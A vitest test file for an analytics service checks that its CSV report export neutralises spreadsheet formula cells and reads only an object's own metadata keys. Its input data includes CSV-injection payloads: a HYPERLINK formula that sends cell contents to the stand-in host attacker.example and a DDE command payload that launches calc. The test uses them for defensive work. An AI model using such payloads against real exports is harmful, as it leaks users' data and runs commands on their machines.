import { afterAll, beforeAll, expect, it } from "vitest";
import { startTestPendulum, TEST_APP_KEY, type TestPendulum } from "../../../test/harness.js";

// Issue 15, findings 4 and 13: metadata anyone with the public app key can send reaches the CSV
// export, so cells a spreadsheet would run as formulas are neutralised; and a column names an own
// metadata key, never something every object inherits.

let p: TestPendulum;
beforeAll(async () => {
  p = await startTestPendulum();
});
afterAll(async () => {
  await p?.close();
});

it("neutralises formula cells in a report's CSV, keeps numbers numeric and reads own keys only", async () => {
  const hostile = { link: '=HYPERLINK("https://attacker.example/?"&A1,"Open")', sum: "+SUM(1,2)", at: "@SUM(A1)", minus: "-2+3", tab: "\t=1", cr: "\r=1", negative: -5, text: "-5" };
  const res = await fetch(`${p.url}/data/ingest?key=${TEST_APP_KEY}`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ visitor: { id: "v-csv" }, account: { id: "=cmd|' /C calc'!A0", ...hostile }, events: [{ type: "load", ts: Date.now() - 1000, url: "https://app.example.com/" }] }),
  });
  expect(res.status).toBe(200);
  await p.modules.analytics.settle();
  const columns = [...Object.keys(hostile).map((k) => `agent.${k}`), "custom.constructor", "agent.toString", "pageViews"];
  const created = await p.api("/api/v1/reports", { method: "POST", body: JSON.stringify({ name: "csv", range: { last: 7 }, columns }) });
  expect(created.status).toBe(201);
  const { id } = (await created.json()) as { id: string };
  const csv = await (await p.api(`/api/v1/reports/${id}/results.csv`)).text();
  const [head, row] = csv.split("\n");
  expect(head).toBe(`accountId,${columns.join(",")}`);
  expect(row).toBe(
    [`'=cmd|' /C calc'!A0`, `"'=HYPERLINK(""https://attacker.example/?""&A1,""Open"")"`, `"'+SUM(1,2)"`, `'@SUM(A1)`, `'-2+3`, `'\t=1`, `"'\r=1"`, "-5", "-5", "", "", "1"].join(","),
  );
  const json = (await (await p.api(`/api/v1/reports/${id}/results`)).json()) as { rows: { values: Record<string, unknown> }[] };
  expect(json.rows[0]?.values["custom.constructor"]).toBeNull();
  expect(json.rows[0]?.values["agent.toString"]).toBeNull();
});
